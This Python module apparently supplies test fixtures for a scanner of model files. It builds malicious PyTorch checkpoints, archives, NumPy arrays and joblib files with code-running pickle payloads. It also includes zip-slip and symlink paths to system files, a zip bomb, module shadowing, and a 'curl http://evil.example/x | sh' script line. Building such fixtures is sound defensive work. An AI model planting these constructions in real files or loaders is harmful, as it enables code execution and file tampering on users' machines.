"""Archives, arrays and containers of torch with a payload in them, built here; those of published attacks beyond the catalogue's files."""
# ruff: noqa: E501  (what is scanned stands on one line)
# fmt: off

import base64
import bz2
import gzip
import io
import json
import lzma
import struct
import tarfile
import warnings
import zipfile
import zlib

from tests.sentinel.attack_pickles import PAYLOAD, PLAIN, RUN, pickled

ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\0>\0\x01\0\0\0" + bytes(100)


def zipped(members, method=zipfile.ZIP_STORED, comment=b""):
    """A zip of (name, bytes); a name that occurs twice is written twice."""
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w", method) as archive:
        warnings.simplefilter("ignore")
        for name, data in members:
            archive.writestr(name, data)
        archive.comment = comment
    return buffer.getvalue()


def tarred(members, mode="w"):
    """A tar of (name or TarInfo, bytes)."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as archive:
        for name, data in members:
            entry = name if isinstance(name, tarfile.TarInfo) else tarfile.TarInfo(name)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
    return buffer.getvalue()


def linked(name, target, kind=tarfile.SYMTYPE):
    entry = tarfile.TarInfo(name)
    entry.type, entry.linkname = kind, target
    return entry


def checkpoint(data=PAYLOAD, extra=(), lead="archive"):
    """The members of torch.save's zip around a pickle."""
    return [(f"{lead}/data.pkl", data), (f"{lead}/version", b"3\n"), (f"{lead}/data/0", bytes(16)), *extra]


def renamed_in(data, old, new, *, first):
    """One of the two places at which a zip has a member's name: its own header, or the directory."""
    at = data.index(old) if first else data.rindex(old)
    return data[:at] + new + data[at + len(new) :]


def torch_archives():
    ordinary = zipped(checkpoint(PLAIN))
    yield "pt-zip", {"model.pt": zipped(checkpoint())}, "malicious"
    yield "pt-zip-deflated", {"model.pt": zipped(checkpoint(), zipfile.ZIP_DEFLATED)}, "malicious"
    yield "pt-zip-lfh-name-mismatch", {"model.pt": renamed_in(zipped(checkpoint()), b"data.pkl", b"data.txt", first=True)}, "malicious"
    yield "pt-zip-directory-name-mismatch", {"model.pt": renamed_in(zipped(checkpoint()), b"data.pkl", b"data.txt", first=False)}, "malicious"
    yield "pt-zip-behind-bytes", {"model.pt": b"#!/bin/sh\n" + ordinary}, "suspicious"
    yield "pt-zip-behind-a-program", {"model.pt": ELF + ordinary}, "malicious"
    yield "pt-zip-second-pickle", {"model.pt": zipped(checkpoint(PLAIN, [("archive/extra.pkl", PAYLOAD)]))}, "malicious"
    yield "pt-zip-pickle-among-numbers", {"model.pt": zipped([("archive/data/0", PAYLOAD)])}, "malicious"
    yield "pt-zip-other-extension", {"model.pt": zipped(checkpoint(PLAIN, [("archive/code.bin", PAYLOAD)]))}, "malicious"
    yield "pt-zip-within-a-zip", {"model.pt": zipped([("inner.pt", zipped(checkpoint()))])}, "malicious"
    yield "pt-zip-two-directories", {"model.pt": zipped(checkpoint(), comment=zipped(checkpoint(PLAIN))[-22:])}, "suspicious"
    yield "pt-zip-two-archives", {"model.pt": zipped(checkpoint()) + ordinary}, "suspicious"
    yield "pt-zip-constants", {"model.pt": zipped(checkpoint(PLAIN, [("archive/constants.pkl", PAYLOAD)]))}, "malicious"
    yield "pt-zip-no-directory", {"model.pt": ordinary[: ordinary.index(b"PK\x01\x02")]}, "suspicious"
    unlisted = zipped([("archive/evil.pkl", PAYLOAD)])
    yield "pt-zip-unlisted-member", {"model.pt": unlisted[: unlisted.index(b"PK\x01\x02")] + ordinary}, "malicious"
    yield "pt-zip-unknown-method", {"model.pt": ordinary.replace(b"\x14\0\0\0\0\0", b"\x14\0\0\0\x63\0")}, "unscanned"
    script = b"def forward(self, x):\n  _0 = ops.aten.save([x], '/tmp/x')\n  return x\n"
    yield "pt-torchscript-ops-save", {"m.pt": zipped(checkpoint(PLAIN, [("archive/code/__torch__/m.py", script)]))}, "malicious"
    custom = b"def forward(self, x):\n  return ops.evil.run(x)\n"
    yield "pt-torchscript-custom-operator", {"m.pt": zipped(checkpoint(PLAIN, [("archive/code/__torch__.py", custom)]))}, "suspicious"
    package = [("p/.data/extern_modules", b"torch\n"), ("p/.data/version", b"6"), ("p/evil.py", b"x = 1\n"), ("p/m/model.pkl", PLAIN)]
    yield "pt-torch-package-with-plain-source", {"m.pt": zipped(package)}, "suspicious"
    legacy = b"".join(map(pickled, (b"\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19", b"M\xe9\x03", b"}", b"]")))
    yield "pt-legacy-system-info", {"m.pth": legacy[: legacy.index(b"}")] + RUN + b"." + legacy[legacy.index(b"}") :]}, "malicious"
    yield "pt-legacy-sixth-pickle", {"m.pth": legacy + pickled(b"]") + PAYLOAD}, "malicious"
    yield "pt-tar", {"m.pt": tarred([("pickle", PAYLOAD), ("tensors", PLAIN), ("storages", PLAIN)])}, "malicious"
    yield "pt-tar-storages", {"m.pt": tarred([("pickle", PLAIN), ("tensors", pickled(b"K\0")), ("storages", pickled(b"K\x01") + PAYLOAD)])}, "malicious"
    manifest = json.dumps({"model": {"modelName": "m", "serializedFile": "m.pt", "handler": "service.py"}}).encode()
    handler = b"import os\n\ndef handle(data, context):\n    return [os.listdir('.')]\n"
    mar = [("MAR-INF/MANIFEST.json", manifest), ("m.pt", ordinary)]
    yield "pt-mar-handler", {"m.mar": zipped([*mar, ("service.py", handler)])}, "suspicious"
    yield "pt-mar-handler-runs", {"m.mar": zipped([*mar, ("service.py", handler.replace(b"listdir", b"system"))])}, "suspicious"
    yield "pt-mar-handler-at-import", {"m.mar": zipped([*mar, ("service.py", b"import os\nos.system('true')\n")])}, "malicious"
    yield "pt-mar-requirements", {"m.mar": zipped([*mar, ("requirements.txt", b"-i https://evil.example/simple\nx\n")])}, "suspicious"


# Made by py7zr 1.1.4, as in test_scanner.py: a.txt, and d/model.pkl with a pickle that calls os.system.
SEVEN = base64.b64decode(
    "N3q8ryccAAQUbODUnwAAAAAAAAAVAAAAAAAAAKegBg4BACFoZWxsbyB0ZXh0gASMAm9zjAZzeXN0ZW2TjAR0cnVlhVIuAOAAjABxXQAAgTMHrg/QaX28nz9HQQV77dfZ"
    "Bs67JiaWbzK383dyZfu6i1cr6TY75lMbGYp65+fK6RcIbr9cMLQ5fVSzVmu2UI3ct7djYGFQB4V8MvAwNMQfdRUAX/rdDEj3MHrykVAXZu3b+1DB3H+aENqhoAAAAAAX"
    "BiYBCXkABwsBAAEhIQEYDICNAAA="
)


def archives():
    yield "ar-7z", {"model.7z": SEVEN}, "malicious"
    yield "pt-7z", {"model.pt": SEVEN}, "malicious"
    yield "pt-7z-bin", {"pytorch_model.bin": SEVEN}, "malicious"
    yield "ar-elf-polyglot-zip", {"model.zip": ELF + zipped([("readme.txt", b"text")])}, "malicious"
    yield "ar-zip-slip", {"m.zip": zipped([("../../../../tmp/x", b"text")])}, "malicious"
    yield "ar-zip-slip-by-backslash", {"m.zip": zipped([("..\\..\\x", b"text")])}, "malicious"
    yield "ar-zip-absolute", {"m.zip": zipped([("/etc/cron.d/x", b"text")])}, "malicious"
    yield "ar-zip-nested-thrice", {"m.zip": zipped([("a", zipped([("b", zipped([("c", PAYLOAD)]))]))])}, "malicious"
    yield "ar-zip-tar-gz", {"m.zip": zipped([("a.tar.gz", gzip.compress(tarred([("w", PAYLOAD)])))])}, "malicious"
    yield "ar-zip-program", {"m.zip": zipped([("bin/tool", ELF)])}, "suspicious"
    yield "ar-zip-script", {"m.zip": zipped([("setup.sh", b"curl http://evil.example/x | sh\n")])}, "suspicious"
    yield "ar-zip-python", {"m.zip": zipped([("x.py", b"import os\nos.system('true')\n")])}, "malicious"
    yield "ar-zip-protocol-0", {"m.zip": zipped([("weights", b"cos\nsystem\n(S'true'\ntR.")])}, "malicious"
    bomb = zipped([("z", zipped([("z", bytes(8 << 20))] * 12, zipfile.ZIP_DEFLATED))], zipfile.ZIP_DEFLATED)
    yield "ar-zip-bomb-in-a-zip", {"m.zip": bomb}, "suspicious"
    entry = zipfile.ZipInfo("weights.bin")
    entry.create_system, entry.external_attr = 3, 0o120777 << 16
    yield "ar-zip-link-within", {"m.zip": zipped([(entry, b"../../secret")])}, "malicious"
    yield "ar-tar-absolute", {"m.tar": tarred([("/etc/x", b"text")])}, "malicious"
    yield "ar-tar-link", {"m.tar": tarred([(linked("w", "/etc/passwd"), b"")])}, "malicious"
    yield "ar-tar-hard-link", {"m.tar": tarred([(linked("w", "../../secret", tarfile.LNKTYPE), b"")])}, "malicious"
    through = [(linked("dir", "/tmp"), b""), ("dir/x", b"text")]
    yield "ar-tar-through-a-link", {"m.tar": tarred(through)}, "malicious"
    yield "ar-tar-xz-pickle", {"m.tar.xz": tarred([("weights", PAYLOAD)], "w:xz")}, "malicious"
    yield "ar-tar-bz2-pickle", {"m.tbz": tarred([("weights", PAYLOAD)], "w:bz2")}, "malicious"
    yield "ar-tar-device", {"m.tar": tarred([(linked("null", "", tarfile.CHRTYPE), b"")])}, "malicious"
    yield "ar-tar-joined", {"m.tar": tarred([("a.txt", b"text")]) + tarred([("w", PAYLOAD)])}, "suspicious"
    yield "ar-tar-duplicate", {"m.tar": tarred([("w.ckpt", PLAIN), ("w.ckpt", PAYLOAD)])}, "malicious"
    for kind, pack in (("gz", gzip.compress), ("bz2", bz2.compress), ("xz", lzma.compress), ("zlib", zlib.compress)):
        yield f"pk-compressed-{kind}-twice", {f"m.pkl.{kind}": pack(pack(PAYLOAD))}, "malicious"
    yield "pk-compressed-lzma", {"m.pkl.lzma": lzma.compress(PAYLOAD, lzma.FORMAT_ALONE)}, "malicious"
    yield "pk-compressed-under-another-name", {"m.safetensors": gzip.compress(PAYLOAD)}, "malicious"
    yield "pk-compressed-second-stream", {"m.pkl.gz": gzip.compress(PLAIN) + gzip.compress(PAYLOAD)}, "malicious"
    for suffix in ("h5", "gguf", "json", "txt", "png", "npy", "yaml", "md", "py", "tflite", "pb", "model", "csv", "jinja", "ipynb", "msgpack", "xml"):
        yield f"pk-ext-{suffix}", {f"model.{suffix}": PAYLOAD}, "malicious"
        yield f"pk-ext-{suffix}-protocol-0", {f"model.{suffix}": b"cos\nsystem\n(S'true'\ntR."}, "malicious"
    shadow = {"model.pkl": pickled(b"ccollections\nOrderedDict\n)R"), "collections.py": b"class OrderedDict(dict):\n    pass\n"}
    yield "pk-module-shadow", shadow, "suspicious"
    yield "pk-module-shadow-in-a-package", {**shadow, "__init__.py": b""}, "suspicious"
    package = {"m.joblib": PLAIN, "sklearn/__init__.py": b"", "sklearn/linear_model.py": b"class LogisticRegression: pass\n"}
    yield "pk-module-shadow-package", package, "suspicious"


def header(descr="'<f4'", shape="(2,)", version=1):
    body = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}".encode()
    body += b" " * (-(len(body) + 11) % 64) + b"\n"
    return b"\x93NUMPY" + bytes([version, 0]) + struct.pack("<H" if version == 1 else "<I", len(body)) + body


def arrays():
    yield "np-npy-object-in-a-record", {"a.npy": header("[('a', '<f4'), ('b', '|O')]") + PAYLOAD}, "malicious"
    yield "np-npy-code-in-the-header", {"a.npy": header("__import__('os').system('true')") + bytes(8)}, "suspicious"
    yield "np-npy-version-2", {"a.npy": header("'|O'", version=2) + PAYLOAD}, "malicious"
    yield "np-npy-longer", {"a.npy": header() + bytes(8) + PAYLOAD}, "suspicious"
    yield "np-npz-in-a-folder", {"sub/a.npz": zipped([("a.npy", header("'|O'") + PAYLOAD)])}, "malicious"
    yield "np-npz-pickle-member", {"a.npz": zipped([("a.npy", header() + bytes(8)), ("b", PAYLOAD)])}, "malicious"
    yield "np-npy-compressed", {"a.npy.gz": gzip.compress(header("'|O'") + PAYLOAD)}, "malicious"
    for kind, pack in (("zlib", zlib.compress), ("gzip", gzip.compress), ("bz2", bz2.compress), ("xz", lzma.compress)):
        yield f"jl-{kind}", {f"m.joblib.{kind}": pack(PAYLOAD)}, "malicious"
    yield "jl-lzma", {"m.joblib": lzma.compress(PAYLOAD, lzma.FORMAT_ALONE)}, "malicious"
    yield "jl-old", {"m.joblib": b"ZF" + hex(len(PAYLOAD)).encode().ljust(19) + zlib.compress(PAYLOAD)}, "malicious"
    yield "jl-raw", {"m.joblib": PAYLOAD}, "malicious"
    yield "jl-lz4", {"m.joblib.lz4": b"\x04\x22\x4d\x18" + bytes(40)}, "unscanned"


def archives_and_arrays():
    """Id, files by name, and the severity that is wanted at least."""
    yield from torch_archives()
    yield from archives()
    yield from arrays()
